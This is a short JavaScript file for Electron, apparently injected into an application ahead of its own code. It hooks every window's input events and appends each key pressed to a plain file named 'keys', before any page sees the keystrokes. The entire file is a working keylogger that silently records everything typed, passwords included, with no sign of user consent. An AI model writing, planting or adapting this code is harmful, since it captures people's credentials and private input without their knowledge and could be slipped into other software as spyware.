// @ts-check
/**
 * Loaded into the application before its own code: notes the keys that go down in any of its windows, before a page could
 * see them, as the desktop delivered them; one a line in the file `keys` of the working directory.
 */
const { appendFileSync } = require('node:fs')
const path = require('node:path')
const { app } = require('electron')

const file = path.resolve('keys')

app.on('web-contents-created', (_event, contents) => {
  contents.on('before-input-event', (_input, { type, key }) => {
    if (type === 'keyDown') appendFileSync(file, `${key}\n`)
  })
})
